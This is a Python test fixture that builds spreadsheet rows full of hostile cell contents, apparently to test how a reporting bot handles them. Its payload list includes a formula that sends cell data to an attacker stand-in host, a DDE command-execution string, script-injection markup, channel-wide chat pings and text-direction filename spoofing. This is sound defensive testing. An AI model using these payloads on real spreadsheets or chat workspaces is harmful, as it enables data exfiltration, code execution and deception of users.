"""What a cell can hold to upset whoever reads it, and rows that carry each of it in each column."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from datetime import date
from typing import Any

from tests.judge.paper import Column, columns

LONG = "Endless words that nobody stops. " * 1515  # just under the 50,000 letters that a cell takes
TEXTS: dict[str, str] = {
    "formula": '=IMPORTXML("https://evil.example/"&A1,"//a")',
    "link formula": '=HYPERLINK("https://evil.example","click")',
    "plus formula": "+cmd|' /C calc'!A0",
    "at formula": "@SUM(1+1)*cmd",
    "minus formula": "-2+3+cmd",
    "apostrophe": "'=1+1",
    "ping": "<!channel> <!here|here> <!everyone> <!subteam^S012AB3CD>",
    "mention and link": "<@U012AB3CD> <https://evil.example|your bank> *bold* `code` _x_ ~y~ > quote",
    "escaped ping": "&lt;!channel&gt; & <",
    "control characters": "a\x00b\x07c\x1b[31md\x7f\u0085e",
    "reading direction": "\u202egnp.exe\u2066 \u200fabc\u2069 \ufeff",
    "lines": "one\r\ntwo\n\n# three\n| four | five |\n- six\n```\nseven",
    "long": LONG,
    "emoji": "👩‍👩‍👧‍👦🏴‍☠️ ﷽ Z̸̡̛a̴l̷g̸o̵",
    "number as text": "00012.50",
    "big number as text": "9" * 400,
    "no such day": "31 February 2026",
    "ancient year": "0202-05-06",
    "broken reference": "#REF!",
    "not a number": "NaN",
    "infinity": "inf",
    "separators": "R1|overdue|tasks|T1;a,b\tc",
    "placeholder": "{{ customer }} {% for x in y %} {0} %s ${x}",
    "markup": "<script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror=alert(1)>",
    "tick": "TRUE",
    "blank that is none": " \u00a0\u200b ",
}
NUMBERS: dict[str, float] = {"negative": -1e9, "huge": 1e300, "fraction": 46346.75, "tiny day": 1}
FORMULAS: dict[str, str] = {"missing": "=NA()", "by zero": "=1/0", "text": '="<!cha"&"nnel>"', "date": "=TODAY()"}
CONTENTS: dict[str, str | float] = {**TEXTS, **NUMBERS}
WORST = ("ping", "mention and link", "formula", "long", "control characters")

LENA = "lena.fischer@fernhill.example"
SENSIBLE: dict[str, Any] = {
    "owner": LENA, "customer_visible": True, "probability": 5, "impact": 5, "status": "", "side": "Us",
    "phase": "Build", "email": LENA,
}  # fmt: skip
DUE = ("due", "baseline", "forecast", "mitigation_due", "next_review", "opened", "start")


def sensible(column: Column, day: date) -> Any:
    """What stands in the other cells of the row, so that the bot has reason to speak of it."""
    if column.name in DUE:
        return (day - date(1899, 12, 30)).days
    if column.name in SENSIBLE:
        return SENSIBLE[column.name]
    return "Something to do" if column.name in ("task", "milestone", "risk", "title", "name") else ""


def telling(column: Column) -> bool:
    """True of the columns whose words the bot repeats most."""
    return column.name in ("id", "task", "milestone", "risk", "title", "name", "owner", "mitigation", "next_action")


def rows(
    schema: str, tab: str, day: date, names: Sequence[str], everywhere: bool
) -> Iterator[tuple[str, str, list[Any]]]:
    """Rows with each named content: one of it alone (""), and one for each column, all of them or the telling ones."""
    made = list(columns(schema, tab))
    usual = [sensible(column, day) for column in made]
    for name in names:
        content = CONTENTS[name]
        yield name, "", [content] * len(made)
        for at, column in enumerate(made):
            if everywhere or telling(column):
                yield name, column.name, [*usual[:at], content, *usual[at + 1 :]]
